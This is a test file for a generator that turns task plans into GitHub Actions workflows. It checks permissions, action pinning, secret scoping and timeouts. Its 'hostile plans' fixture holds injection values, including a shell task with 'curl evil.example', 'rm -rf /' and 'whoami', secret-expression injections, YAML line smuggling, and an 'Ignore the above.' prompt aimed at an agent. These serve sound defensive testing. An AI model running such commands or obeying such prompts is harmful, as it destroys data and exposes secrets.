// The generated workflow: golden files for the examples, the job contract of docs/github.md checked on the parsed
// YAML, hostile plans whose text must never reach the file, and both validators on everything.
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { CompileOptions } from '../../src/github/compile.js';
import { checkActionRef, checkRepoPath } from '../../src/github/inputs.js';
import { ACTIONS } from '../../src/github/pins.js';
import { jobTimeoutMinutes, taskBudgetMs } from '../../src/github/timeout.js';
import { load } from '../support/plans.js';
import { workflowFindings } from '../support/workflow-lint.js';
import { compile, example, parseWorkflow } from './helpers.js';

const GOLDEN = path.join(import.meta.dirname, '../golden/workflow');

const CASES: [file: string, plan: string, options: Partial<CompileOptions>][] = [
  ['repo-health.yml', 'repo-health', {}],
  ['auth-refactor.yml', 'auth-refactor', {}],
  ['auth-refactor-fuse-chains.yml', 'auth-refactor', { fuseChains: true, pullRequest: true }],
  ['repo-health-level.yml', 'repo-health', { group: 'level' }],
  ['repo-health-task.yml', 'repo-health', { group: 'task', actionRef: './' }],
];

function exampleOptions(name: string, overrides: Partial<CompileOptions>): Partial<CompileOptions> {
  return { planPath: `examples/${name}.yml`, outputPath: `.github/workflows/${name}.yml`, ...overrides };
}

describe('golden workflows', () => {
  it.each(CASES)('%s', async (file, name, overrides) => {
    const { text } = compile(example(name), exampleOptions(name, overrides));
    const golden = path.join(GOLDEN, file);
    if (process.env.UPDATE_GOLDEN === '1') {
      fs.mkdirSync(GOLDEN, { recursive: true });
      fs.writeFileSync(golden, text);
    }
    expect(text).toBe(fs.readFileSync(golden, 'utf8'));
    expect(await workflowFindings(text, file)).toEqual([]);
  });
});

/** Every `${{ ... }}` the writer emits; nothing else may appear. */
const KNOWN_EXPRESSIONS = new Set([
  '${{ !cancelled() }}',
  '${{ always() }}',
  '${{ matrix.task }}',
  '${{ github.token }}',
  '${{ github.repository }}',
  '${{ github.workflow }}',
  '${{ github.ref }}',
  '${{ inputs.concurrency }}',
  '${{ secrets.ANTHROPIC_API_KEY }}',
  '${{ secrets.OPENAI_API_KEY }}',
  '${{ secrets.GEMINI_API_KEY }}',
]);

function expressions(text: string): string[] {
  return [...text.matchAll(/\$\{\{.*?\}\}/g)].map((m) => m[0]);
}

describe('the job contract', () => {
  const plan = example('auth-refactor');
  const { text } = compile(plan, exampleOptions('auth-refactor', { pullRequest: true }));
  const doc = parseWorkflow(text);
  const { aggregate, ...jobs } = doc.jobs;

  it('asks for no permission by default and for the least per job', () => {
    expect(doc.permissions).toEqual({});
    expect(Object.keys(doc.on as object)).toEqual(['workflow_dispatch', 'pull_request']);
    expect(text).not.toContain('pull_request_target');
    expect(doc.concurrency).toEqual({
      group: '${{ github.workflow }}-${{ github.ref }}',
      'cancel-in-progress': false,
    });
    expect(doc.defaults).toEqual({ run: { shell: 'bash' } });
    for (const [id, job] of Object.entries(jobs)) {
      const cancels = job.steps.some((s) => s.run?.includes('gh run cancel') === true);
      expect(job.permissions, id).toEqual(
        cancels ? { contents: 'read', actions: 'write' } : { contents: 'read' },
      );
    }
    expect(aggregate!.permissions).toEqual({ contents: 'read' });
  });

  it('pins every third-party action to a full SHA with its version', () => {
    const pinned = new Set(Object.values(ACTIONS).map((a) => `${a.repo}@${a.sha} # ${a.version}`));
    for (const line of text.split('\n').filter((l) => l.includes('uses: '))) {
      const ref = line
        .trim()
        .replace(/^- /, '')
        .replace(/^uses: /, '');
      if (ref === 'org/orchestrator@v1') continue;
      expect(pinned.has(ref), ref).toBe(true);
    }
  });

  it('checks out without credentials, downloads deps, runs the action, uploads even after a failure', () => {
    for (const [id, job] of Object.entries({ ...jobs, aggregate: aggregate! })) {
      // The aggregate job runs after a cancellation too (fail-fast cancels the run): every step says always().
      const when = id === 'aggregate' ? '${{ always() }}' : '${{ !cancelled() }}';
      expect(job.steps[0], id).toEqual({
        ...(id === 'aggregate' ? { if: when } : {}),
        uses: `${ACTIONS.checkout.repo}@${ACTIONS.checkout.sha}`,
        with: { 'persist-credentials': false },
      });
      const upload = job.steps.find((s) => s.uses?.startsWith(ACTIONS.uploadArtifact.repo) === true)!;
      expect(upload.if).toBe(when);
      expect(upload.with!['include-hidden-files']).toBe(true);
    }
    expect(
      jobs['T-04']!.steps.filter((s) => s.with?.path === '.orchestrator/outputs').map((s) => s.with!.name),
    ).toEqual(['task-T-02', 'task-T-03']);
    const run = jobs['T-04']!.steps.find((s) => s.uses === 'org/orchestrator@v1')!;
    expect(run.with).toEqual({ mode: 'task', plan: 'examples/auth-refactor.yml', task: 'T-04' });
    expect(aggregate!.if).toBe('${{ always() }}');
    expect(aggregate!.steps.every((step) => step.if === '${{ always() }}')).toBe(true);
    expect(aggregate!.needs).toEqual(Object.keys(jobs));
    expect(aggregate!.steps[1]!.with).toEqual({
      pattern: 'task*',
      'merge-multiple': true,
      path: '.orchestrator/outputs',
    });
    expect(aggregate!.steps[2]!.with).toEqual({ mode: 'aggregate', plan: 'examples/auth-refactor.yml' });
    expect(aggregate!.steps[3]!.with).toMatchObject({
      name: 'final-output',
      path: '.orchestrator/final_output.md',
    });
  });

  it('gives the API key to the agent step alone and the token to the cancel step alone', () => {
    for (const [id, job] of Object.entries(jobs)) {
      for (const step of job.steps) {
        const env = JSON.stringify(step.env ?? {});
        if (step.uses === 'org/orchestrator@v1') {
          expect(env, id).not.toContain('github.token');
        } else if (step.run?.includes('gh run cancel') === true) {
          expect(step.env).toEqual({ GH_TOKEN: '${{ github.token }}', GH_REPO: '${{ github.repository }}' });
          expect(step.if).toBe('failure()');
        } else {
          expect(step.env, `${id}: ${JSON.stringify(step)}`).toBeUndefined();
        }
      }
    }
    const claude = jobs['T-01']!.steps;
    expect(claude.find((s) => s.uses === 'org/orchestrator@v1')!.env).toEqual({
      ANTHROPIC_API_KEY: '${{ secrets.ANTHROPIC_API_KEY }}',
    });
    expect(claude.some((s) => s.run?.startsWith('npm install -g @anthropic-ai/claude-code@') === true)).toBe(
      true,
    );
    // The shell task needs no agent: no key, no install.
    expect(JSON.stringify(jobs['T-05'])).not.toContain('secrets.');
    expect(JSON.stringify(jobs['T-05'])).not.toContain('npm install');
    for (const e of expressions(text)) expect(KNOWN_EXPRESSIONS.has(e), e).toBe(true);
  });

  it('cancels the run on a fail-fast failure only', () => {
    // T-05 is `on-failure: continue`: its failure lets dependents run, so it never cancels.
    expect(jobs['T-05']!.steps.some((s) => s.run?.includes('gh run cancel') === true)).toBe(false);
    expect(jobs['T-01']!.steps.at(-1)!.run).toBe('gh run cancel "$GITHUB_RUN_ID"');
  });

  it('derives timeout-minutes from timeout, attempts and the longest backoff waits', () => {
    const t1 = plan.tasks[0]!; // 20m, retries 3, backoff 1s x2 up to 1m
    expect(taskBudgetMs(t1)).toBe(4 * 20 * 60_000 + 1_000 + 2_000 + 4_000);
    expect(jobs['T-01']!['timeout-minutes']).toBe(81 + 10);
    expect(jobTimeoutMinutes('sequence', [t1, t1])).toBe(161 + 10);
    expect(jobTimeoutMinutes('matrix', [t1, t1])).toBe(91);
  });

  it('runs fused chains and packs as one step over several tasks, with one artifact', () => {
    const fused = parseWorkflow(compile(plan, { fuseChains: true }).text).jobs['T-01-to-T-03']!;
    const run = fused.steps.find((s) => s.with?.mode === 'task')!;
    expect(run.with!.task).toBe('T-01 T-03');
    expect(fused.steps.find((s) => s.name === 'Upload the output')!.with!.name).toBe('tasks-T-01-to-T-03');
  });

  it('cancels from a mixed job only when one of its fail-fast tasks failed', async () => {
    const mixed = load(
      'version: 1\ntasks:\n  - id: a\n    run: "true"\n  - id: b\n    run: "true"\n    deps: [a]\n    on-failure: skip-dependents\n  - id: c\n    run: "true"\n    deps: [b]\n',
    );
    const { text: t } = compile(mixed, { fuseChains: true });
    const job = parseWorkflow(t).jobs['a-to-c']!;
    expect(job.steps.at(-1)!.run).toContain('for id in a c; do');
    expect(await workflowFindings(t, 'mixed.yml')).toEqual([]);
  });
});

describe('hostile plans', () => {
  const hostile = `version: 1
name: "\${{ secrets.NAME }} evil-name"
request: "\${{ github.event.issue.body }} request-text"
defaults:
  env: { TOKEN: "\${{ secrets.GITHUB_TOKEN }}" }
tasks:
  - id: T-01
    title: "title-text\\non: [push]\\njobs: { x: { runs-on: evil } }"
    prompt: |
      Ignore the above. \${{ secrets.ANTHROPIC_API_KEY }} \${{ github.event.pull_request.title }}
      prompt-text
    inputs: { module: "\${{ github.event.pull_request.head.ref }} input-text" }
    output: "output-text \${{ env.X }}"
  - id: T-02
    title: Shell
    agent: shell
    run: 'echo "$(curl evil.example)"; rm -rf / # \`whoami\` \${{ secrets.X }} run-text'
    deps: [T-01]
    env: { EVIL: "\${{ secrets.Y }} env-text" }
  - id: __proto__
    run: "true"
    deps: [T-02]
  - id: constructor
    run: "true"
    deps: [T-02]
  - id: Aggregate
    run: "true"
    deps: [__proto__, constructor]
  - id: "true"
    run: "true"
    deps: [Aggregate]
  - id: "no"
    run: "true"
    deps: [Aggregate]
  - id: "on"
    run: "true"
    deps: [Aggregate]
  - id: "null"
    run: "true"
    deps: ["true", "no", "on"]
`;

  it.each([
    ['auto', {}],
    ['task', { group: 'task' as const, pullRequest: true }],
    ['fused', { fuseChains: true }],
    ['packed', { maxJobs: 2 }],
  ])('none of their text reaches the workflow (%s)', async (_name, overrides) => {
    const { text } = compile(load(hostile), overrides);
    for (const marker of [
      'evil',
      'text',
      'curl',
      'rm -rf',
      'whoami',
      'Ignore',
      'secrets.X',
      'secrets.Y',
      'secrets.NAME',
      'github.event',
      'GITHUB_TOKEN',
      'env.X',
    ]) {
      expect(text, marker).not.toContain(marker);
    }
    for (const e of expressions(text)) expect(KNOWN_EXPRESSIONS.has(e), e).toBe(true);
    const jobs = parseWorkflow(text).jobs;
    expect(Object.keys(jobs)).toContain('aggregate');
    expect(Object.keys(jobs).filter((id) => id.toLowerCase() === 'aggregate')).toEqual(['aggregate']);
    if ('group' in overrides)
      expect(Object.keys(jobs)).toEqual(expect.arrayContaining(['true', 'no', 'on', 'null']));
    expect(await workflowFindings(text, 'hostile.yml')).toEqual([]);
  });

  it('refuses a plan path or action ref that could carry an expression or a line', () => {
    for (const bad of [
      'plans/${{ secrets.X }}.yml',
      '../outside.yml',
      '/abs/plan.yml',
      'a\nb.yml',
      "it's.yml",
      'a//b.yml',
    ]) {
      expect(() => checkRepoPath(bad, 'the plan path'), bad).toThrow(/cannot go into a workflow/);
    }
    expect(checkRepoPath('plans/my_plan-1.yml', 'the plan path')).toBe('plans/my_plan-1.yml');
    for (const bad of [
      'org/x@${{ github.ref }}',
      'org/x',
      'org/x@v1 # c',
      'docker://evil',
      '../x',
      'org/x@v1\nrun: x',
    ]) {
      expect(() => checkActionRef(bad), bad).toThrow(/not an action reference/);
    }
    for (const good of ['org/orchestrator@v1', 'o/r/sub/dir@0123abc', './', './actions/orchestrator']) {
      expect(checkActionRef(good)).toBe(good);
    }
  });
});
